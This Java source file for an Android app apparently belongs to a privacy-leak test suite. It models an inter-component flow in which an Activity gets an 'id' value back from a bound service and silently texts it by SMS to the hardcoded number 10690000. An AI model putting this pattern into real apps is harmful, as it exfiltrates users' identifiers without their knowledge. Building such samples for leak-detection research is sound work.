package cn.privlens.suite.messenger_answer;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final Messenger mine = new Messenger(new Handler() {
            @Override
            public void handleMessage(Message m) { SmsManager.getDefault().sendTextMessage("10690000", null, m.getData().getString("id"), null, null); }
        });
        bindService(new Intent(this, Desk.class), new ServiceConnection() {
            @Override
            public void onServiceConnected(ComponentName name, IBinder binder) {
                Message m = Message.obtain(null, 1);
                m.replyTo = mine;
                try {
                    new Messenger(binder).send(m);
                } catch (RemoteException e) {
                    Log.w("suite", "gone");
                }
            }
            @Override
            public void onServiceDisconnected(ComponentName name) { }
        }, BIND_AUTO_CREATE);
    }

}
